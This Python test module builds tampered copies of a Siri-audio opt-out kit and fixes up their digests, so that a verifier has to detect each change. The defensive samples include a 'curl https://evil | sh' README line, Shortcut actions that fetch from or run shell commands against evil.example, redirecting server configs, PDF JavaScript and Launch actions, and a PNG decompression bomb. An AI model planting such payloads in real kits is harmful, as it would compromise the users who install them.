"""Lies in kits whose manifest and sums were made again: read from tests/cases/lies, or built.

Each is a change of a sound kit's files; `told` makes every digest right again, so that nothing
but what a file holds can tell.
"""

from __future__ import annotations

import io
import json
import plistlib
import re
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pikepdf
import yaml

from builder.kit.opening.kit import OpenedKit
from builder.model.kinds import KINDS, media_type, signable
from builder.model.manifest import NAME, SUMS, Entry, dump_manifest, dump_sums
from builder.render.document import policy
from builder.render.qr import make_qr
from builder.render.qr_draw import qr_png, qr_svg
from builder.wire.digest import sha256
from tests.bad_cases import CASES

Files = dict[str, bytes]
Change = Callable[[Files, dict[str, Any]], None]
"""Changes files by path, and the manifest's head and rows as JSON."""

PAGE = "en/index.html"
SCRIPT = "scripts/en/mac-siri-audio.command"
PROFILE = "profiles/en/mac-siri-audio-off.mobileconfig"
SHORTCUT = "shortcuts/en/Turn off Siri recordings.shortcut"
CODE = "qr/en/siri-audio-page"
SHEET = "print/en/poster-a4.pdf"
EVIL = "https://evil.example/"


def told(kit: OpenedKit, change: Change) -> OpenedKit:
    """The kit after a lie, with every digest, length and sum as it should be."""
    files: Files = dict(kit.files)
    value = json.loads(files.pop(NAME))
    files.pop(SUMS)
    change(files, value)
    rows = {row["path"]: row for row in value["files"]}
    for path, data in files.items():
        if path in rows:
            rows[path].update(bytes=len(data), sha256=sha256(data))
    rows = {path: row for path, row in rows.items() if path in files}
    entries = [Entry(**{**row, "kind": KINDS[row["kind"]]}) for row in rows.values()]
    head = {key: each for key, each in value.items() if key != "files"}
    files[NAME] = dump_manifest(head, entries)
    files[SUMS] = dump_sums(entries, files[NAME])
    runnable = frozenset(entry.path for entry in entries if entry.executable)
    return replace(kit, files=files, executable=runnable)


def cases(name: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = yaml.safe_load((CASES / "lies" / f"{name}.yaml").read_bytes())
    return found


def put(text: str, case: dict[str, Any]) -> str:
    """A text after a lie of a case file. The place must be there: a lie must change something."""
    if "end" in case:
        return text + str(case["end"])
    place = str(case.get("at") or case["for"])
    assert place in text, (case["name"], place)
    return text.replace(place, str(case["put"]) + (place if "at" in case else ""), 1)


def _page(case: dict[str, Any]) -> Change:
    def change(files: Files, _: dict[str, Any]) -> None:
        text = files[PAGE].decode()
        text = put(text, case)
        if case.get("hash"):
            text = allowed(text)
        files[PAGE] = text.encode()

    return change


def allowed(text: str) -> str:
    """The page with a policy that allows whatever style and script it has."""
    (style,) = re.findall("<style>(.*?)</style>", text, re.DOTALL)
    (script,) = re.findall("<script>(.*?)</script>", text, re.DOTALL)
    return re.sub(r"default-src [^\"]*", policy(style, script).replace("\\", r"\\"), text, count=1)


def _in(path: Callable[[Files], str], case: dict[str, Any]) -> Change:
    def change(files: Files, _: dict[str, Any]) -> None:
        where = path(files)
        files[where] = put(files[where].decode(), case).encode()

    return change


def _first_picture(files: Files) -> str:
    return min(path for path in files if path.startswith("pictures/"))


def _said(case: dict[str, Any]) -> Change:
    def change(_: Files, head: dict[str, Any]) -> None:
        head.update(case.get("head", {}))
        head["built_by"].update(case.get("built_by", {}))
        head["kit"].update(case.get("kit", {}))
        head.pop(case.get("drop", ""), None)

    return change


def _added(path: str, data: bytes, kind: str) -> Change:
    """A file more, listed as it should be."""

    def change(files: Files, head: dict[str, Any]) -> None:
        files[path] = data
        head["files"].append(
            {
                "path": path,
                "bytes": 0,
                "sha256": "",
                "kind": kind,
                "guide": "siri-audio",
                "device": "",
                "language": "en",
                "media_type": media_type(path),
                "executable": False,
                "signed": False if signable(KINDS[kind]) else None,
                "says": "a file",
            }
        )

    return change


NAMES = {
    "case twin": ("en/Index.html", "page"),
    "look-alike": ("en/index.htmI", "doc"),
    "look-alike in another script": ("еn/mac-siri-audio.txt", "doc"),
    "form twin": ("en/cafe\u0301.txt", "doc"),
    "device of Windows": ("en/aux.txt", "doc"),
    "device of Windows with two endings": ("en/com1.tar.txt", "doc"),
    "dot at the end": ("en/a.txt.", "doc"),
    "blank at the end": ("en/a.txt ", "doc"),
    "colon": ("en/a:b.txt", "doc"),
    "question mark": ("en/a?.txt", "doc"),
    "hidden character": ("en/a\u200b.txt", "doc"),
    "folder that is a file": ("README.md/a.txt", "doc"),
    "file in no place": ("evil/a.txt", "doc"),
    "text more": ("en/evil.txt", "doc"),
    "page more": ("evil.html", "page"),
    "script more": ("scripts/en/evil.command", "script"),
    "profile more": ("profiles/en/evil.mobileconfig", "profile"),
    "shortcut more": ("shortcuts/evil.shortcut", "shortcut"),
    "code more": ("qr/en/evil-page.svg", "qr"),
    "picture more": ("pictures/en/siri-audio/evil.svg", "picture"),
    "hosting file more": ("hosting/evil.conf", "host"),
}


def _bytes(path: str, change: Callable[[bytes], bytes]) -> Change:
    def changed(files: Files, _: dict[str, Any]) -> None:
        before = files[path]
        files[path] = change(before)
        assert files[path] != before

    return changed


def _workflow(change: Callable[[dict[str, Any]], None]) -> Change:
    def changed(data: bytes) -> bytes:
        value = plistlib.loads(data)
        change(value)
        return plistlib.dumps(value, fmt=plistlib.FMT_BINARY)

    return _bytes(SHORTCUT, changed)


def _action(name: str, **parameters: Any) -> Callable[[dict[str, Any]], None]:
    def change(value: dict[str, Any]) -> None:
        value["WFWorkflowActions"].append(
            {
                "WFWorkflowActionIdentifier": f"is.workflow.actions.{name}",
                "WFWorkflowActionParameters": parameters,
            }
        )

    return change


def _opens(value: dict[str, Any]) -> None:
    for action in value["WFWorkflowActions"]:
        if action["WFWorkflowActionIdentifier"].endswith(".url"):
            action["WFWorkflowActionParameters"]["WFURLActionURL"] = EVIL


def _other_facts(value: dict[str, Any]) -> None:
    """Another address in the dictionary that the menu's answer opens."""
    for action in value["WFWorkflowActions"]:
        if action["WFWorkflowActionIdentifier"].endswith(".dictionary"):
            items = action["WFWorkflowActionParameters"]["WFItems"]["Value"]
            items["WFDictionaryFieldValueItems"][1]["WFValue"]["Value"]["string"] = EVIL


def _opens_clipboard(value: dict[str, Any]) -> None:
    for action in value["WFWorkflowActions"]:
        if action["WFWorkflowActionIdentifier"].endswith(".openurl"):
            action["WFWorkflowActionParameters"]["WFInput"]["Value"] = {"Type": "Clipboard"}


def _code(text: str, *, png: bool) -> Change:
    """Another code in the place of the page's, the list's words with it."""

    def change(files: Files, head: dict[str, Any]) -> None:
        ending = "png" if png else "svg"
        path, code = f"{CODE}.{ending}", make_qr(text)
        files[path] = qr_png(code) if png else qr_svg(code, text).encode()
        next(row for row in head["files"] if row["path"] == path)["code"] = text

    return change


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _vast(data: bytes) -> bytes:
    """20 KB that would be drawn as 169 MB."""
    side = 13_000
    head = struct.pack(">II", side, side) + data[24:29]
    dots = zlib.compress(bytes(side // 8 + 1) * side, 9)
    return data[:8] + _chunk(b"IHDR", head) + _chunk(b"IDAT", dots) + _chunk(b"IEND", b"")


def _only(keep: Callable[[str], bool]) -> Change:
    def change(files: Files, _: dict[str, Any]) -> None:
        for path in [path for path in files if not keep(path)]:
            del files[path]

    return change


def _listed(path: str, **said: Any) -> Change:
    def change(_: Files, head: dict[str, Any]) -> None:
        next(row for row in head["files"] if row["path"] == path).update(said)

    return change


def _swapped(files: Files, _: dict[str, Any]) -> None:
    """An SVG under the name of a text: no checker of drawings would look."""
    files["en/mac-siri-audio.txt"] = b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"


BUILT: dict[str, Change] = {
    "shortcut that fetches": _workflow(_action("downloadurl", WFURL=EVIL)),
    "shortcut that runs a script": _workflow(_action("runshellscript", Script="curl evil")),
    "shortcut that opens another address": _workflow(_opens),
    "shortcut that opens the clipboard": _workflow(_opens_clipboard),
    "shortcut with another dictionary": _workflow(_other_facts),
    "shortcut that sets another variable": _workflow(
        _action("setvariable", WFVariableName="Here", WFInput={"Type": "Clipboard"})
    ),
    "shortcut that asks on import": _workflow(
        lambda value: value.update(WFWorkflowImportQuestions=[{"ParameterKey": "x"}])
    ),
    "shortcut that takes pictures": _workflow(
        lambda value: value.update(WFWorkflowInputContentItemClasses=["WFImageContentItem"])
    ),
    "profile of another value": _bytes(
        PROFILE, lambda data: data.replace(b"<integer>2</integer>", b"<integer>1</integer>")
    ),
    "profile that cannot be removed": _bytes(
        PROFILE,
        lambda data: data.replace(
            b"<key>PayloadVersion</key>",
            b"<key>PayloadRemovalDisallowed</key><true/><key>PayloadVersion</key>",
            1,
        ),
    ),
    "profile of a stranger": _bytes(
        PROFILE, lambda data: data.replace(b"org.optout-kit", b"org.evil", 1)
    ),
    "code to another host": _code(EVIL, png=False),
    "picture of a code to another host": _code(EVIL, png=True),
    "code to another host with ours in front": _code(
        "https://example.org.evil.example/siri/en/", png=False
    ),
    "code to another page": _code("https://example.org/siri/evil", png=False),
    "code to a profile": _code(f"https://example.org/siri/{PROFILE}", png=False),
    "code that runs another shortcut": _code("shortcuts://run-shortcut?name=Other", png=False),
    "code with a script": _bytes(
        f"{CODE}.svg", lambda data: data.replace(b"</svg>", b"<script>x()</script></svg>")
    ),
    "text in a PNG": _bytes(
        f"{CODE}.png",
        lambda data: data[:33] + _chunk(b"tEXt", b"Comment\0evil") + data[33:],
    ),
    "a PNG of 169 million dots": _bytes(f"{CODE}.png", _vast),
    "bytes behind a PNG": _bytes(f"{CODE}.png", lambda data: data + b"evil"),
    "changed README": _bytes("README.md", lambda data: data + b"\ncurl https://evil | sh\n"),
    "changed words in the README": _bytes(
        "README.md", lambda data: data.replace(b"Use https.", b"Use http.")
    ),
    "changed settings of Apache": _bytes(
        ".htaccess", lambda data: data + b"Redirect / https://evil.example/\n"
    ),
    "changed headers": _bytes("_headers", lambda data: data.replace(b"nosniff", b"sniff")),
    "changed settings of nginx": _bytes(
        "hosting/nginx.conf", lambda data: data + b"return 301 https://evil.example;\n"
    ),
    "changed settings of Caddy": _bytes(
        "hosting/Caddyfile", lambda data: data + b"redir https://evil.example\n"
    ),
    "changed bill": _bytes(
        "sbom.json", lambda data: data.replace(b'"bomFormat"', b'"evil": 1,\n "bomFormat"')
    ),
    "copy that is none": _bytes("en/mac-siri-audio.txt", lambda data: data + b"#\n"),
    "drawing under a text's name": _swapped,
    "emptied of all but texts": _only(lambda path: path.endswith((".md", ".json"))),
    "emptied of pages": _only(lambda path: not path.endswith((".html", ".txt"))),
    "emptied of codes": _only(lambda path: not path.startswith("qr/")),
    "emptied of pictures": _only(lambda path: not path.startswith("pictures/")),
    "emptied of one language's profile": _only(lambda path: path != PROFILE),
    "script that is a text": _listed(SCRIPT, kind="doc", executable=False),
    "page that is a text": _listed(PAGE, kind="doc"),
    "picture for another guide": _listed(f"{CODE}.svg", guide=""),
    "page for another language": _listed(PAGE, language="de"),
    "relay that is a host's own": _listed(
        "shortcuts/Optout Relay.shortcut", says="shortcut written as text: x", language="de"
    ),
}


def kit_lies() -> Iterator[tuple[str, Change]]:
    """Lies in a kit with everything but print."""
    for case in cases("pages"):
        yield f"page: {case['name']}", _page(case)
    for case in cases("pictures"):
        yield f"picture: {case['name']}", _in(_first_picture, case)
    for case in cases("scripts"):
        yield f"script: {case['name']}", _in(lambda _: SCRIPT, case)
    for case in cases("manifest"):
        yield f"manifest: {case['name']}", _said(case)
    for name, (path, kind) in NAMES.items():
        yield f"name: {name}", _added(path, b"evil\n", kind)
    for name, change in BUILT.items():
        yield f"file: {name}", change


def _pdf(change: Callable[[Any], None]) -> Change:
    """A sheet changed by a PDF library and written anew: nothing of it looks patched."""

    def changed(data: bytes) -> bytes:
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(data)) as pdf:
            change(pdf)
            pdf.save(out, static_id=True)
        return out.getvalue()

    return _bytes(SHEET, changed)


def _acts(pdf: Any, name: str, **entries: Any) -> Any:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(f"/{name}"), **entries))


def _on_opening(pdf: Any) -> None:
    pdf.Root.OpenAction = _acts(pdf, "JavaScript", JS="app.alert(1)")


def _linked(pdf: Any) -> None:
    pdf.pages[0].Annots[0].A.URI = EVIL


def _linked_twice(pdf: Any) -> None:
    pdf.pages[0].Annots.append(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=_acts(pdf, "URI", URI=EVIL),
        )
    )


def _covered(pdf: Any) -> None:
    """Another code, drawn over ours."""
    code = make_qr(EVIL)
    rows = [
        f"{40 + x * 6} {700 - y * 6} 6 6 re"
        for y, row in enumerate(code.matrix)
        for x, module in enumerate(row)
        if module
    ]
    drawn = "q 1 g 10 500 250 300 re f 0 g " + " ".join(rows) + " f Q"
    pdf.pages[0].contents_add(drawn.encode())


def _whited(pdf: Any) -> None:
    pdf.pages[0].contents_add(b"q 1 g 0 0 2000 2000 re f Q")


SHEETS: dict[str, Callable[[Any], None]] = {
    "action on opening": _on_opening,
    "action of the page": lambda pdf: pdf.pages[0].obj.update(
        {"/AA": {"/O": _acts(pdf, "Launch", F="evil")}}
    ),
    "script by name": lambda pdf: pdf.Root.update(
        {"/Names": {"/JavaScript": {"/Names": ["a", _acts(pdf, "JavaScript", JS="1")]}}}
    ),
    "file inside": lambda pdf: pdf.attachments.update({"a.txt": b"evil"}),
    "form": lambda pdf: pdf.Root.update({"/AcroForm": {"/Fields": []}}),
    "link to another host": _linked,
    "second link": _linked_twice,
    "link that launches": lambda pdf: (
        pdf.pages[0].Annots[0].update({"/A": _acts(pdf, "Launch", F="evil")})
    ),
    "link to another file": lambda pdf: (
        pdf.pages[0].Annots[0].update({"/A": _acts(pdf, "GoToR", F="evil.pdf")})
    ),
    "code over the code": _covered,
    "no code": _whited,
    "not tagged": lambda pdf: pdf.Root.__delitem__("/MarkInfo"),
    "unused object that acts": lambda pdf: pdf.Root.update({"/Hidden": _acts(pdf, "Launch")}),
    "link that launches when it is entered": lambda pdf: (
        pdf.pages[0].Annots[0].update({"/AA": {"/E": _acts(pdf, "Launch", F="evil")}})
    ),
    "file that goes with a page": lambda pdf: pdf.pages[0].obj.update(
        {"/AF": [pikepdf.AttachedFileSpec(pdf, b"evil", filename="a.txt").obj]}
    ),
    "second action after the link": lambda pdf: (
        pdf.pages[0].Annots[0].A.update({"/Next": _acts(pdf, "JavaScript", JS="1")})
    ),
    "relative address of a server": lambda pdf: pdf.Root.update(
        {"/URI": pikepdf.Dictionary(Base=EVIL)}
    ),
    "note that pops up": lambda pdf: pdf.pages[0].Annots.append(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents=EVIL
        )
    ),
    "layer that can be hidden": lambda pdf: pdf.Root.update({"/OCProperties": {"/OCGs": []}}),
    "picture inside": lambda pdf: pdf.pages[0].Resources.update({"/XObject": {}}),
}


def sheet_lies() -> Iterator[tuple[str, Change]]:
    """Lies in a kit with print."""
    for name, change in SHEETS.items():
        yield name, _pdf(change)
    yield "bytes behind the end", _bytes(SHEET, lambda data: data + b"evil")
    yield "no PDF", _bytes(SHEET, lambda _: b"<html>")
